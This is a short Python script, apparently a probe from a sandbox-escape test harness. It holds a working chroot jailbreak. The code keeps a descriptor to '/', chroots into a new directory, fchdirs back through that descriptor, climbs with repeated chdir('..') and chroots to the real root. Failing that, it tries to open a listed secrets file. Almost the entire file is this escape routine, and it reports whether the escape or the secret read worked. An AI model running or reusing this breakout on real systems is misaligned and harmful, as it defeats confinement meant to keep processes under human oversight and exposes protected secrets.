"""Out by a root of its own."""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(*numbers):
    """The first of (x86_64, aarch64) numbers that fits, then the arguments; whether the kernel did it."""
    (x86, arm), *given = numbers
    return libc.syscall(arm if os.uname().machine == "aarch64" else x86, *given) >= 0
def works(act, *given):
    try: act(*given)
    except (OSError, ValueError): return False
    return True
def run(info):
    os.mkdir("r"); top = os.open("/", os.O_RDONLY) if works(os.open, "/", os.O_RDONLY) else os.open(".", os.O_RDONLY)
    done = works(os.chroot, "r")
    if done:
        os.fchdir(top)
        for _ in range(50): os.chdir("..")
        os.chroot(".")
    return done or os.path.exists(info["secrets"][0]) and works(open, info["secrets"][0])
